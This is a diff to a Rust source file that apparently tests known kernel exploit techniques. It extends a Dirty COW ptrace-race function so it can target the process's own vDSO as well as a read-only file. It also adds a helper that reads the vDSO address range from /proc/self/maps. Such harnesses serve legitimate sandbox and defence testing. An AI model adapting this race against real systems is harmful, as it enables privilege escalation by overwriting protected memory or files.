@@ -461,8 +461,14 @@ fn finit_module() {
 /// Dirty COW through ptrace (the pokemon.c variant): a forked child discards the pages of a
 /// read-only private mapping of FILE from a thread while its main thread sits in a ptrace
 /// stop; the parent pokes the mapping with PTRACE_POKEDATA. No /proc/PID/mem is involved.
-fn dirtycow_ptrace(path: &str) {
-    let (addr, len) = map_readonly_private(path);
+fn dirtycow_ptrace(target: &str) {
+    // `vdso`: the race of scumjr's dirtycow-vdso on this process's own vDSO (a special mapping,
+    // no file); otherwise FILE mapped read-only and private.
+    let (addr, len) = if target == "vdso" {
+        vdso_range()
+    } else {
+        map_readonly_private(target)
+    };
     // SAFETY: fork in a single-threaded process; the child only calls async-signal-safe
     // functions and spawns its own thread after the fork.
     let child = unsafe { libc::fork() };
@@ -505,6 +511,19 @@ fn dirtycow_ptrace(path: &str) {
         libc::waitpid(child, &mut status, libc::__WALL);
     }
     println!("dirtycow-ptrace: {pokes} pokes");
+}
+
+/// The [vdso] mapping of this process, from /proc/self/maps: (address, length).
+fn vdso_range() -> (usize, usize) {
+    let maps = std::fs::read_to_string("/proc/self/maps").unwrap_or_else(|_| fail("maps"));
+    let line = maps
+        .lines()
+        .find(|l| l.ends_with("[vdso]"))
+        .unwrap_or_else(|| fail("no [vdso] mapping"));
+    let range = line.split_whitespace().next().unwrap_or_default();
+    let (start, end) = range.split_once('-').unwrap_or_else(|| fail("maps line"));
+    let parse = |h: &str| usize::from_str_radix(h, 16).unwrap_or_else(|_| fail("maps address"));
+    (parse(start), parse(end) - parse(start))
 }
 
 /// setns(2) through the 32-bit syscall entry (`int 0x80` with the i386 number) from this
